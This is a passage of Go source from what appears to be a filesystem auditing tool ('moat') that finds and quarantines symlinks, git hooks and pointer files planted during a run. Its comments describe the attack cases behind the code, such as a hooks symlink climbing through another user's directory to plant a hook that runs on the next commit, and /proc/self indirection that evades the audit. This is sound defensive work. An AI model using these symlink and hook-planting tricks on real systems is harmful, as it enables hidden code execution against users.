		return target != "" && a.inRoots(next) && (a.changedAt(next, idOf(fi)) || perProcess(target))
	})
	return found
}

// foreignLinkOnWay is the first symlink met while p is resolved as the
// kernel resolves it (walkWay) that is neither the auditing user's nor
// root's, "" if none. What such a symlink leads the audit to is not acted
// on: another user who can write a tree the run can write (or a
// directory of their own outside the trees) made root's audit move out or
// rewrite root's files that the run changed, in a directory that user
// cannot even list, by a symlinked hook, hooks directory, template
// directory or include of theirs leading there (found by attack pass 51:
// TestAuditOtherUsersSymlinkLeadsToRunsFiles). The symlink itself is what
// is taken out, where it lies in a tree (quarantineReached).
func (a *auditor) foreignLinkOnWay(p string) string {
	me := auditorUID()
	found, _ := walkWay(p, func(next string, fi fs.FileInfo, target string) bool {
		if fi.Mode()&fs.ModeSymlink == 0 {
			return false
		}
		uid, ok := ownerOf(fi)
		return ok && uid != me && uid != 0
	})
	return found
}

// quarantineReached takes out real, a file the audit reached by a path
// through way (a hooks or template directory, a config's directory): where
// another user's symlink lies on way (foreignLinkOnWay), that symlink goes
// instead if it lies in a tree, and nothing is moved otherwise (the
// finding says so). It reports whether something was taken out.
//
// A symlink the run made (or moved in) in a tree, met on way before
// another user's, is what chose the way: it goes. The command's own
// .git/hooks symlink to "/home/eve/docs/../../../tree/x/.evil" (any
// other user's symlink to a directory, climbed out of with "..") led the
// audit through eve's symlink, and the hook it planted in x/.evil stayed,
// with a warning only, and ran on the user's next commit (found by attack
// pass 52: TestAuditRunsSymlinkThroughOtherUsersSymlink).
func (a *auditor) quarantineReached(way, real, why string) bool {
	link := a.foreignLinkOnWay(way)
	if link == "" {
		a.quarantine(real, why)
		return true
	}
	if own := a.runsLinkOnWay(way); own != "" {
		if oreal, ok := a.changedActionable(own); ok {
			a.quarantine(oreal, why+" (reached through "+quoteName(own)+", a symlink made during the run, then "+quoteName(link)+", another user's symlink: the symlink made during the run is taken out, not the file "+quoteName(real)+" it leads to)")
			return true
		}
	}
	if lreal, ok := a.changedActionable(link); ok {
		a.quarantine(lreal, why+" (reached through "+quoteName(link)+", another user's symlink: the symlink is taken out, not the file "+quoteName(real)+" it leads to)")
		return true
	}
	if key := "\x00foreign\x00" + real; !a.done[key] {
		a.done[key] = true
		a.record(Finding{Path: real, Reason: why, Action: "failed: reached through " + quoteName(link) + ", another user's symlink outside the writable trees: moat acts on nothing another user's symlink leads it to"})
	}
	return false
}

// wayLinkToTakeOut is the symlink the audit takes out for a symlink the
// run changed on p's way (changedLinkOnWay): that one, unless another
// user's symlink lying in a tree comes before it on the way, which then
// goes instead (runsLinkOnWay). Either cuts git's way; the user's own
// link past another user's is not moved for that user. Past another
// user's symlink outside the trees, the changed link goes all the same:
// nothing else would cut the way.
func (a *auditor) wayLinkToTakeOut(p string) string {
	link := a.changedLinkOnWay(p)
	if link == "" {
		return ""
	}
	if own := a.runsLinkOnWay(p); own != "" {
		return own
	}
	if f := a.foreignLinkOnWay(p); f != "" && a.inRoots(f) {
		return f
	}
	return link
}

// wayLinkWhy begins the reason a symlink wayLinkToTakeOut chose is taken
// out for: one the run made or retargeted, or another user's, which is
// what goes when the run's changed link lies past it (attack pass 52).
func (a *auditor) wayLinkWhy(link string) string {
	if fi, err := lstat(link); err == nil {
		if uid, ok := ownerOf(fi); ok && uid != auditorUID() && uid != 0 {
			return "another user's symlink, with a symlink the run changed past it,"
		}
	}
	return "a symlink made during the run"
}

// runsLinkOnWay is changedLinkOnWay up to the first symlink of another
// user's (foreignLinkOnWay) on p's way: a symlink the run changed past it
// is where that user's symlink led the audit, and may be the user's own
// (a release link, current -> v2, retargeted by the run's legitimate
// work): another user's symlinked hooks directory in a shared tree,
// through such a link of root's, had root's audit move root's link out
// (attack pass 52: TestAuditOtherUsersSymlinkThroughUsersChangedLink).
// What lies past another user's symlink is judged by quarantineReached.
func (a *auditor) runsLinkOnWay(p string) string {
	me := auditorUID()
	own := false
	found, _ := walkWay(p, func(next string, fi fs.FileInfo, target string) bool {
		if target == "" {
			return false
		}
		if a.inRoots(next) && (a.changedAt(next, idOf(fi)) || perProcess(target)) {
			own = true
			return true
		}
		uid, ok := ownerOf(fi)
		return ok && uid != me && uid != 0
	})
	if !own {
		return ""
	}
	return found
}

// procOnWay reports whether p, resolved as the kernel resolves it, passes
// through /proc or /dev/fd at any step, whoever made the symlinks that
// lead there (one outside the roots too: a link to /proc/self/cwd/.. in
// the tree, then a pointer through it, led git to a staged repository and
// moat nowhere; found by an attack pass, TestAuditProcSelfIndirect). A
// loop of symlinks counts as such.
func procOnWay(p string) bool {
	if perProcess(p) {
		return true
	}
	found, loop := walkWay(p, func(next string, _ fs.FileInfo, target string) bool {
		return perProcess(next) || target != "" && perProcess(target)
	})
	return loop || found != ""
}

// linkTarget is where a symlink in dir whose text is t leads, as a path.
func linkTarget(dir, t string) string {
	if filepath.IsAbs(t) {
		return t
	}
	return filepath.Join(dir, t)
}

// perProcess reports a path through the kernel's per-process links
// (/proc/self/cwd, /proc/PID/root, /dev/fd/N, ...): it leads to another
// place for each process that resolves it, git's not moat's.
func perProcess(p string) bool {
	p = filepath.Clean(p)
	for _, d := range []string{"/proc", "/dev/fd", "/dev/stdin", "/dev/stdout", "/dev/stderr"} {
		if p == d || strings.HasPrefix(p, d+"/") {
			return true
		}
	}
	return false
}

// rawPointer is the path a pointer file names, before any symlink on it is
// resolved: a symlink itself, or the directory a .git file or commondir
// names (relative to the file's directory).
func rawPointer(file string) string {
	fi, err := lstat(file)
	if err != nil {
		return ""
	}
	if fi.Mode()&fs.ModeSymlink != 0 {
		return file
	}
	b, _, err := readSmall(file, 64<<10)
	if err != nil {
		return ""
	}
	s := strings.TrimPrefix(string(b), "gitdir: ")
	s = strings.TrimRight(s, "\r\n")
	if i := strings.IndexByte(s, 0); i >= 0 {
		s = s[:i]
	}
	if s == "" {
		return ""
	}
	if !filepath.IsAbs(s) {
		s = filepath.Dir(file) + "/" + s
	}
	return s
}
